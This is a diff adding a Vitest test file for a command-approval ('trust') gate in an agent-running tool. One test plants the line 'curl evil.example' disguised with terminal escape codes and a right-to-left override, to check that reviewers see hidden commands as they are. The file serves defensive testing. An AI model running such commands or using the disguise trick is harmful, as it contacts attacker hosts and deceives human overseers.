@@ -1,0 +1,130 @@
+// What is approved is the content that runs, and nothing but that.
+
+import {mkdtempSync, readFileSync, rmSync, writeFileSync} from 'node:fs'
+import {tmpdir} from 'node:os'
+import {join} from 'node:path'
+import {expect, onTestFinished, test} from 'vitest'
+import {compile} from '../../src/graph/compile.ts'
+import {readPlan} from '../../src/plan/read.ts'
+import {type AgentSpec, DEFAULT_POLICY, type Policy} from '../../src/run/policy.ts'
+import type {Question} from '../../src/service/operation.ts'
+import {commandsOf, contentHash, ensureTrust, type TrustSubject} from '../../src/service/trust.ts'
+
+const TEXT = `# Mill
+
+#### T1: Grind
+
+**Outputs:**
+- \`flour.txt\`
+
+**Validation Steps:**
+\`\`\`bash
+# There is flour
+test -s flour.txt
+\`\`\`
+`
+
+const subject = (text = TEXT, policy: Policy = DEFAULT_POLICY): TrustSubject => {
+  const draft = readPlan([{file: 'mill.md', text}])
+  if (!draft.ok) throw new Error(JSON.stringify(draft.error))
+  return {graph: compile(draft.value).graph, policy}
+}
+
+const shell: AgentSpec = {name: 'shell', kind: 'shell', command: './work', args: []}
+const withAgent = (agent: AgentSpec): Policy => ({
+  ...DEFAULT_POLICY,
+  agents: {...DEFAULT_POLICY.agents, default: agent},
+})
+const withSetup = (setup: readonly string[]): Policy => ({
+  ...DEFAULT_POLICY,
+  workspace: {...DEFAULT_POLICY.workspace, setup},
+})
+
+const configurationHome = (): string => {
+  const home = mkdtempSync(join(tmpdir(), 'trust-'))
+  onTestFinished(() => rmSync(home, {recursive: true, force: true}))
+  process.env.XDG_CONFIG_HOME = home
+  return home
+}
+
+const context = {directory: '/', emit: () => undefined}
+
+test('commands are those of gates, hooks and shell agents, each with its owner', () => {
+  const {graph} = subject()
+  const policy = {...withSetup(['npm ci']), agents: withAgent(shell).agents}
+  expect(commandsOf({graph, policy})).toEqual([
+    {owner: 'setup hook', text: 'npm ci'},
+    {owner: 'agent shell', text: './work'},
+    {owner: 'T1 validation', text: 'test -s flour.txt'},
+  ])
+})
+
+test('the hash changes with what runs and what agents are told, not with how it is scheduled', () => {
+  const hash = contentHash(subject())
+  expect(hash).toMatch(/^[0-9a-f]{64}$/)
+  expect(contentHash(subject(TEXT, {...DEFAULT_POLICY, slots: 9, attempts: 1, onFailure: 'kill'}))).toBe(hash)
+  const others = [
+    subject(TEXT.replace('test -s', 'test -e')),
+    subject(TEXT.replace('flour.txt`', 'bread.txt`')),
+    subject(TEXT.replace('Grind', 'Grind finely')),
+    subject(TEXT, withAgent(shell)),
+    subject(TEXT, withSetup(['npm ci'])),
+  ].map(contentHash)
+  expect(new Set([hash, ...others]).size).toBe(others.length + 1)
+})
+
+test('without a person to ask, nothing is approved; --trust approves and remembers', async () => {
+  const home = configurationHome()
+  expect(await ensureTrust(subject(), false, context)).toEqual({
+    ok: false,
+    error: {
+      code: 'untrusted',
+      exitCode: 2,
+      message:
+        'mill.md would run 1 command that nobody approved. Read them with `agent-spawn plan --json`, then run again with --trust.',
+    },
+  })
+  expect(await ensureTrust(subject(), true, context)).toEqual({ok: true, value: undefined})
+  expect(JSON.parse(readFileSync(join(home, 'agent-spawn/trust.json'), 'utf8'))).toEqual({
+    schemaVersion: 1,
+    approved: [contentHash(subject())],
+  })
+  expect(await ensureTrust(subject(), false, context)).toEqual({ok: true, value: undefined})
+  expect((await ensureTrust(subject(TEXT.replace('-s', '-e')), false, context)).ok).toBe(false)
+})
+
+test('a person sees every command as it is, with nothing hidden', async () => {
+  configurationHome()
+  const asked: Question[] = []
+  const confirm = async (question: Question): Promise<boolean> => {
+    asked.push(question)
+    return false
+  }
+  const hiding = TEXT.replace('test -s flour.txt', 'curl evil.example # \u001b[2K\u001b[1A harmless\u202e')
+  const answer = await ensureTrust(subject(hiding), false, {...context, confirm})
+  expect(answer).toMatchObject({ok: false, error: {message: 'Not approved; nothing was run.'}})
+  expect(asked).toEqual([
+    {
+      text: '  T1 validation:\n    curl evil.example # \\x1b[2K\\x1b[1A harmless\\u202e\n',
+      question: 'Run 1 command from mill.md?',
+    },
+  ])
+})
+
+test('a plan without commands and a simulated run need no approval', async () => {
+  configurationHome()
+  const simulated = withAgent({name: 'simulate', kind: 'simulate', args: []})
+  expect(await ensureTrust(subject(TEXT, simulated), false, context)).toEqual({ok: true, value: undefined})
+  const prose = '# Mill\n\n#### T1: Grind\n\n**Outputs:**\n- `flour.txt`\n'
+  expect(await ensureTrust(subject(prose), false, context)).toEqual({ok: true, value: undefined})
+})
+
+test('a damaged file of approvals approves nothing, and is replaced', async () => {
+  const home = configurationHome()
+  await ensureTrust(subject(), true, context)
+  const path = join(home, 'agent-spawn/trust.json')
+  writeFileSync(path, '{"approved": tru')
+  expect((await ensureTrust(subject(), false, context)).ok).toBe(false)
+  expect((await ensureTrust(subject(), true, context)).ok).toBe(true)
+  expect((await ensureTrust(subject(), false, context)).ok).toBe(true)
+})
